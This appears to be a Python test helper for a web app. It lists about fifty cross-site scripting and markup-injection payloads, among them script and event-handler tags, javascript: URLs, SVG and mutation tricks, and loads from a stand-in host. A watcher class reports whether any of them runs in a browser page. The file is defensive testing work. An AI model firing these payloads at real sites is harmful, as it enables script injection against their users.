"""Texts that would run, load or send something where they are shown as markup. Each one calls ran(N) or asks HOST."""

from __future__ import annotations

HOST = "csw-attack.invalid"
_TEMPLATES = (
    "<script>top.ran({n})</script>",
    "<ScRiPt>top.ran({n})</sCrIpT>",
    "<scr\0ipt>top.ran({n})</scr\0ipt>",
    "<script src=//{host}/{n}></script>",
    "</script><script>top.ran({n})</script>",
    "</textarea><script>top.ran({n})</script>",
    "</title></style><script>top.ran({n})</script>",
    "--><script>top.ran({n})</script><!--",
    "]]><script>top.ran({n})</script>",
    "<img src=x onerror=top.ran({n})>",
    "<IMG SRC=x ONERROR='top.ran({n})'>",
    "<img src=//{host}/{n}>",
    '"><img src=x onerror=top.ran({n})>',
    "'><img src=x onerror=top.ran({n})>",
    "</blockquote></td></table><img src=x onerror=top.ran({n})>",
    '" autofocus onfocus=top.ran({n}) x="',
    "' onmouseover='top.ran({n})",
    "<svg onload=top.ran({n})>",
    "<svg/onload=top.ran({n})//",
    "<svg><script>top.ran({n})</script></svg>",
    "<svg><animate onbegin=top.ran({n}) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=top.ran({n})>'>",
    "<iframe src=javascript:top.ran({n})></iframe>",
    "<iframe srcdoc='<script>top.ran({n})</script>'></iframe>",
    "<object data=javascript:top.ran({n})></object>",
    "<embed src=//{host}/{n}>",
    "<body onload=top.ran({n})>",
    "<details open ontoggle=top.ran({n})>x</details>",
    "<input autofocus onfocus=top.ran({n})>",
    "<p contenteditable autofocus onfocus=top.ran({n})>x",
    "<video><source onerror=top.ran({n})></video>",
    "<audio src=x onerror=top.ran({n})>",
    "<marquee onstart=top.ran({n})>x</marquee>",
    "<style>@import '//{host}/{n}';</style>",
    '<p style="background:url(//{host}/{n})">x</p>',
    "<link rel=stylesheet href=//{host}/{n}>",
    "<base href=//{host}/{n}/>",
    "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<form action=//{host}/{n}><button autofocus>x</button></form>",
    "<a href=javascript:top.ran({n}) id=a{n}>x</a>",
    "[x](javascript:top.ran({n}))",
    "![x](//{host}/{n})",
    "$\\href{{javascript:top.ran({n})}}{{x}}$",
    "\\(\\require{{html}}\\style{{background:url(//{host}/{n})}}{{x}}\\)",
    "${{top.ran({n})}}`${{top.ran({n})}}`",
    "{{{{constructor.constructor('top.ran({n})')()}}}}",
    "&lt;script&gt;top.ran({n})&lt;/script&gt;",
    "&#60;img src=x onerror=top.ran({n})&#62;",
    "\uff1cscript\uff1etop.ran({n})\uff1c/script\uff1e",
    "<noscript><p title='</noscript><img src=x onerror=top.ran({n})>'>",
    "\u202e<img src=x onerror=top.ran({n})>\u202c",
    "\x1b]0;x\x07<img src=x onerror=top.ran({n})>",
)
PAYLOADS = tuple(template.format(n=n, host=HOST) for n, template in enumerate(_TEMPLATES))
PAGE_SCRIPT = "window.seen = []; window.ran = n => window.seen.push(n);"


class Watch:
    """Everything by which a payload could show that it ran, on one page; ask `alarms()` at the end."""

    def __init__(self, page: object) -> None:
        self.page, self._heard = page, []  # type: ignore[var-annotated]
        page.add_init_script(PAGE_SCRIPT)  # type: ignore[attr-defined]
        page.on("dialog", lambda d: (self._heard.append(f"dialog {d.message}"), d.dismiss()))  # type: ignore[attr-defined]
        page.on("request", self._request)  # type: ignore[attr-defined]

    def _request(self, request: object) -> None:
        if HOST in request.url.split("?")[0]:  # type: ignore[attr-defined]
            self._heard.append(f"request {request.url}")  # type: ignore[attr-defined]

    def alarms(self) -> list[str]:
        """What was heard, after everything on the page was hovered over and clicked by a script."""
        self.page.evaluate(  # type: ignore[attr-defined]
            "() => document.querySelectorAll('.csw-feedback *, .cs-studio a, .cs-copy *').forEach(e => "
            "['mouseover', 'focus', 'click'].forEach(k => e.matches('button, summary, textarea, [href^=\"#\"]') "
            "|| e.dispatchEvent(new Event(k, {bubbles: true}))))"
        )
        self.page.wait_for_timeout(150)  # type: ignore[attr-defined]
        return [*self._heard, *(f"ran {n}" for n in self.page.evaluate("() => window.seen"))]  # type: ignore[attr-defined]
